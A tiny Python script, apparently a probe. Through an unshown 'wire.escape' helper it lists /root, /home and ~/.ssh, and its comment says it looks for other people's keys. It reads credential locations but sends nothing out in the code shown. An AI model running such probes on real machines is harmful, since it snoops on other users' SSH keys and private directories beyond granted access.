#!/usr/bin/python3 -SEB
# Looks for keys in the homes of the people here.
import os

import wire

wire.escape(lambda: os.listdir("/root"), lambda: os.listdir("/home"),
            lambda: os.listdir(os.path.expanduser("~/.ssh")))
